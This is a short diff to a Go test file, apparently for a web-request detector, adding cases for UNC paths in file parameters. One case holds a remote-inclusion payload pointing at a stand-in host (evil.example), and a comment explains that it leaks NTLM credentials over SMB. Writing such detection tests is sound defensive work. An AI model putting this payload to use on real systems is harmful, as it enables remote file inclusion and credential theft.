@@ -18,3 +18,14 @@ func TestTraversalThroughLookAlikeSlashes(t *testing.T) {
 		{"ellipsis", body("comment", "… and so on... “quoted”."), "", ""},
 	})
 }
+
+// TestUNCPathWhereAFileIsExpected: Windows opens \\host\share\file over
+// SMB, a remote include that also hands the host NTLM credentials.
+func TestUNCPathWhereAFileIsExpected(t *testing.T) {
+	runLevelCases(t, []levelCase{
+		{"share on a host", q("file", `\\evil.example\share\x`), "rfi-include-param", "rfi-include-param"},
+		{"a local long path", q("file", `\\?\C:\data\file.txt`), "", ""},
+		{"a relative windows path", q("file", `notes\readme.txt`), "", ""},
+		{"in a text field", body("comment", `see \\fileserver\team\plan.docx`), "", ""},
+	})
+}
